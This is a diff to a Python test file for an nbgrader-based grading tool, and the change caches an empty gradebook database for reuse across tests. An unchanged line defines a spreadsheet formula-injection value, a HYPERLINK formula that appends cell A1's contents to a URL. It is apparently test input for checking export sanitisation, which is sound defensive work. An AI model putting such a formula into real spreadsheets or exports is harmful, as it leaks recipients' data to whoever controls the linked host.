@@ -6,7 +6,9 @@ import json
 import os
 import sys
 from datetime import datetime
+from functools import lru_cache
 from pathlib import Path
+from tempfile import TemporaryDirectory
 
 import pytest
 
@@ -16,6 +18,19 @@ from vaxlab.grading import handback
 
 NOTEBOOKS = {"1-trust": {"trust-a": 2.0, "trust-b": 4.0}, "2-more": {"more-a": 10.0}}
 EVIL = '=HYPERLINK("http://127.0.0.1/?"&A1,"open")'
+
+
+@lru_cache(maxsize=1)
+def empty_gradebook() -> bytes:
+    """What nbgrader makes; it starts a program for it, which takes seconds."""
+    from nbgrader.api import Gradebook
+
+    with TemporaryDirectory() as folder, pytest.MonkeyPatch.context() as patch:
+        # nbgrader looks for `alembic` by its name.
+        patch.setenv("PATH", f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}")
+        path = Path(folder) / "gradebook.db"
+        Gradebook(f"sqlite:///{path}").close()
+        return path.read_bytes()
 
 
 def fill(root: Path, learners: dict[str, dict], notebooks: dict | None = None) -> Path:
@@ -28,11 +43,7 @@ def fill(root: Path, learners: dict[str, dict], notebooks: dict | None = None) -
 
     (root / "solutions").mkdir(exist_ok=True)
     (root / "nbgrader_config.py").touch()
-    # nbgrader looks for `alembic` by its name.
-    beside = f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"
-    with pytest.MonkeyPatch.context() as patch:
-        patch.setenv("PATH", beside)
-        Gradebook(f"sqlite:///{root / 'gradebook.db'}").close()
+    (root / "gradebook.db").write_bytes(empty_gradebook())
     with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gradebook:
         gradebook.add_assignment("day1")
         for notebook, cells in (notebooks or NOTEBOOKS).items():
